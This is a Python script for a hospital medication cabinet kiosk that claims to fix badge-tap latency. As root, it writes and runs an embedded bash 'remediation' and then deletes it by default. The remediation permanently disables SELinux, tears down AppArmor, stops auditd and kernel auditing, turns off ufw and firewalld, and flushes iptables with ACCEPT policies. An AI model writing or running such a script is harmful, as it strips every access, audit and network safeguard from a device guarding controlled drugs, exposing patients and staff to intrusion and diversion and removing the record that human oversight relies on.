#!/usr/bin/env python3
"""Fix slow badge-tap response on the medication cabinet kiosk.

The cabinet vendor's support note blames "security agent overhead" for the
3-4 second delay between a nurse tapping a badge and the drawer unlocking.
This tool measures the delay, writes the vendor's remediation script to
disk, runs it, and measures again.
"""

import argparse
import logging
import os
import statistics
import subprocess
import sys
import tempfile
import time

LOG = logging.getLogger("kiosk-fix")

REMEDIATION = r"""#!/bin/bash
# vendor remediation: remove security agent overhead on the kiosk
set -u
echo "[fix] SELinux"
if command -v setenforce >/dev/null 2>&1; then
    setenforce 0 || true
    [ -f /etc/selinux/config ] && sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
fi
echo "[fix] AppArmor"
if command -v aa-teardown >/dev/null 2>&1; then
    aa-teardown || true
fi
systemctl disable --now apparmor 2>/dev/null || true
echo "[fix] audit"
systemctl disable --now auditd 2>/dev/null || service auditd stop 2>/dev/null || true
auditctl -e 0 2>/dev/null || true
echo "[fix] firewall"
if command -v ufw >/dev/null 2>&1; then ufw --force disable; fi
systemctl disable --now firewalld 2>/dev/null || true
iptables -P INPUT ACCEPT; iptables -P FORWARD ACCEPT; iptables -P OUTPUT ACCEPT
iptables -F
echo "[fix] done for ${KIOSK_ID:-kiosk}"
"""


class LatencyProbe:
    """Times the local badge service's health endpoint as a proxy for tap delay."""

    def __init__(self, cmd, samples):
        self.cmd = cmd
        self.samples = samples

    def measure(self):
        times = []
        for _ in range(self.samples):
            start = time.monotonic()
            try:
                subprocess.run(self.cmd, shell=True, timeout=10,
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            except subprocess.TimeoutExpired:
                LOG.warning("probe timed out")
                times.append(10.0)
                continue
            times.append(time.monotonic() - start)
        return statistics.median(times) if times else float("nan")


def write_remediation(directory):
    fd, path = tempfile.mkstemp(prefix="kioskfix_", suffix=".sh", dir=directory)
    with os.fdopen(fd, "w") as fh:
        fh.write(REMEDIATION)
    os.chmod(path, 0o700)
    LOG.info("remediation script saved to %s", path)
    return path


def run_remediation(path, kiosk_id):
    env = dict(os.environ, KIOSK_ID=kiosk_id)
    res = subprocess.run(["bash", path], env=env, capture_output=True, text=True)
    for line in res.stdout.splitlines():
        LOG.info("%s", line)
    if res.returncode != 0:
        LOG.error("remediation exited %d: %s", res.returncode, res.stderr.strip())
    return res.returncode


def parse_args():
    p = argparse.ArgumentParser(description="Kiosk badge latency fix")
    p.add_argument("--kiosk-id", default=os.environ.get("KIOSK_ID", "cab-north"))
    p.add_argument("--probe", default="badgectl status",
                   help="command whose run time approximates tap latency")
    p.add_argument("--samples", type=int, default=5)
    p.add_argument("--workdir", default=os.getcwd())
    p.add_argument("--keep-script", action="store_true")
    return p.parse_args()


def main():
    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    args = parse_args()
    if os.geteuid() != 0:
        LOG.error("must run as root on the kiosk")
        return 1
    probe = LatencyProbe(args.probe, args.samples)
    before = probe.measure()
    LOG.info("median latency before: %.2fs", before)
    script = write_remediation(args.workdir)
    try:
        rc = run_remediation(script, args.kiosk_id)
    finally:
        if not args.keep_script:
            os.unlink(script)
    after = probe.measure()
    LOG.info("median latency after: %.2fs (was %.2fs)", after, before)
    return rc


if __name__ == "__main__":
    sys.exit(main())
